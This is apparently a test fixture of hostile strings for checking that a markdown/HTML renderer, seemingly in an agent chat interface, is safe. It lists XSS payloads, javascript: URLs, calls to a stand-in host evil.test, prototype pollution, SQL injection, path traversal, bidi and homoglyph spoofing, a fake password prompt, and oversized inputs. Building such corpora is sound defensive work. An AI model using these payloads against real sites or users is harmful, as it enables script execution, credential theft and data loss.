/**
 * Text that tries to be something else: markup, script, addresses that run, directions that reorder, and sheer size. Where
 * one of them runs, it sets `__harm` on the window or asks `evil.test` for something.
 */

const HARM = 'globalThis.__harm=1';

const EVENTS = [
  'onerror',
  'onload',
  'onclick',
  'onfocus',
  'onmouseover',
  'onanimationstart',
  'ontoggle',
  'onpointerenter',
];
const TAGS = [
  'img src=x',
  'svg',
  'body',
  'iframe src=about:blank',
  'video src=x',
  'audio src=x',
  'details open',
  'input autofocus',
];

const html = [
  ...EVENTS.flatMap((event) => TAGS.map((tag) => `<${tag} ${event}="${HARM}">`)),
  `<script>${HARM}</script>`,
  `<SCRIPT SRC=//evil.test/x.js></SCRIPT>`,
  `"><script>${HARM}</script>`,
  `'><img src=x onerror=${HARM}>`,
  `</textarea><script>${HARM}</script>`,
  `</title><script>${HARM}</script>`,
  `<template><script>${HARM}</script></template>`,
  `<base href="//evil.test/">`,
  `<meta http-equiv="refresh" content="0;url=//evil.test/">`,
  `<link rel=stylesheet href=//evil.test/x.css>`,
  `<object data="javascript:${HARM}"></object>`,
  `<embed src="javascript:${HARM}">`,
  `<form action="//evil.test/"><button>Send</button></form>`,
  `<button formaction="javascript:${HARM}">Press</button>`,
  `<isindex action="javascript:${HARM}" type=image>`,
  `<math><mi xlink:href="javascript:${HARM}">x</mi></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${HARM}>">`,
  `<div style="position:fixed;inset:0;z-index:99999;background:red">over everything</div>`,
  `<style>*{display:none!important}</style>`,
  `<agent-composer></agent-composer><agent-workbench url="//evil.test/"></agent-workbench>`,
  `<slot name="composer"></slot>`,
  `<dialog open>Your session has ended. Type your password:</dialog>`,
  `<!--><img src=x onerror=${HARM}>-->`,
  `<![CDATA[<img src=x onerror=${HARM}>]]>`,
];

const svg = [
  `<svg><script>${HARM}</script></svg>`,
  `<svg onload=${HARM}>`,
  `<svg><animate onbegin=${HARM} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${HARM}>`,
  `<svg><a xlink:href="javascript:${HARM}"><text x=20 y=20>press</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${HARM}>#x"></svg>`,
  `<svg><foreignObject><iframe src="javascript:${HARM}"></iframe></foreignObject></svg>`,
  `<svg><image href="//evil.test/x.png"></svg>`,
  `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Il9faGFybT0xIj4=)`,
];

const addresses = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  ' javascript:',
  '\u0001javascript:',
  'javascript&colon;',
  'javascript&#58;',
  '&#106;avascript:',
  'vbscript:',
  'data:text/html,<script>',
  'data:text/html;base64,PHNjcmlwdD4=',
  'blob:https://evil.test/',
  'filesystem:https://evil.test/',
  'file:///etc/passwd#',
  'view-source:javascript:',
].flatMap((scheme) => [`[press me](${scheme}${HARM})`, `<${scheme}${HARM}>`, `![picture](${scheme}${HARM})`]);

const markdown = [
  `[x]: javascript:${HARM}\n\n[press][x]`,
  `[press](<javascript:${HARM}>)`,
  `[press](https://evil.test/ "onmouseover=${HARM}")`,
  `![x](https://evil.test/track.png)`,
  `![x](//evil.test/track.png)`,
  `[![x](https://evil.test/a.png)](javascript:${HARM})`,
  `https://evil.test/?q=<script>${HARM}</script>`,
  `[your bank](https://bank.test@evil.test/)`,
  `[press](https://xn--pple-43d.test/)`,
  '```html\n<img src=x onerror=' + HARM + '>\n```',
  '```"><img src=x onerror=' + HARM + '>\ncode\n```',
  '`<img src=x onerror=' + HARM + '>`',
  `| <img src=x onerror=${HARM}> | b |\n| - | - |\n| <script>${HARM}</script> | c |`,
  `- [x] <img src=x onerror=${HARM}>`,
  `[1](evidence:<script>)`,
  `[^<img src=x>]`,
  `&lt;img src=x onerror=${HARM}&gt;`,
  `&#60;script&#62;${HARM}&#60;/script&#62;`,
  `$\\href{javascript:${HARM}}{x}$`,
  '```mermaid\ngraph TD; A["<img src=x onerror=' + HARM + '>"]\n```',
];

const templates = [
  '${globalThis.__harm=1}',
  '{{constructor.constructor("globalThis.__harm=1")()}}',
  '#{7*7}',
  '<%= 7*7 %>',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  '{"__proto__":{"polluted":true}}',
  '{"constructor":{"prototype":{"polluted":true}}}',
  'expression(globalThis.__harm=1)',
  'url(//evil.test/x.png)',
  '";}*{display:none}/*',
  '--agent-text:red;}',
  "'; DROP TABLE sessions; --",
  '../../../../etc/passwd',
  '%00',
  '\\u003cscript\\u003e',
];

const directions = [
  '\u202Egnp.exe',
  '\u202E\u2066abc\u2069\u2066def',
  '\u2067approve\u2069 reject',
  '\u202Dabc\u202Edef\u202C',
  '\u061Capprove',
  'user\u200B\u200C\u200D\u2060name',
  '\uFEFFadmin',
  'p\u0430ypal', // a Cyrillic a
  'عربي English עברית',
  '\u202E'.repeat(500) + 'x',
];

const controls = [
  '\u0000\u0001\u0002\u0007\u0008',
  '\u001b[2J\u001b[H\u001b[31mred',
  '\u001b]0;title\u0007',
  '\u001b]8;;https://evil.test\u0007press\u001b]8;;\u0007',
  '\u009b31m',
  'a\rb\rc',
  '\ud800 lone',
  '\udc00\ud800',
  '\ufffe\uffff',
  '\u2028\u2029',
];

const size = [
  'x'.repeat(20_000),
  'W'.repeat(500),
  '🧑‍🚀'.repeat(2_000),
  'a\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308'.repeat(100),
  `Z${'\u0335\u0336\u0337'.repeat(300)}`,
  'line\n'.repeat(2_000),
  '\t'.repeat(2_000) + 'x',
  '﷽'.repeat(200),
  '| a '.repeat(300) + '|\n' + '| - '.repeat(300) + '|\n' + '| b '.repeat(300) + '|',
  'https://example.test/' + 'a'.repeat(5_000),
];

const depth = [
  '>'.repeat(400) + ' deep',
  Array.from({length: 150}, (_, level) => `${'  '.repeat(level)}- item`).join('\n'),
  '['.repeat(1_500),
  '!['.repeat(700),
  '*'.repeat(3_000),
  '_a'.repeat(1_500),
  '('.repeat(1_500) + ')'.repeat(1_500),
  '`'.repeat(2_000),
  '<div>'.repeat(1_500),
  '{"a":'.repeat(500) + '1' + '}'.repeat(500),
  '['.repeat(500) + ']'.repeat(500),
  '~'.repeat(1_000) + '\nopen fence',
  '#'.repeat(200) + ' heading',
  '**' + 'a*'.repeat(700) + '**',
  '|'.repeat(1_500),
];

/** All of them. */
export const HOSTILE: readonly string[] = [
  ...html,
  ...svg,
  ...addresses,
  ...markdown,
  ...templates,
  ...directions,
  ...controls,
  ...size,
  ...depth,
];
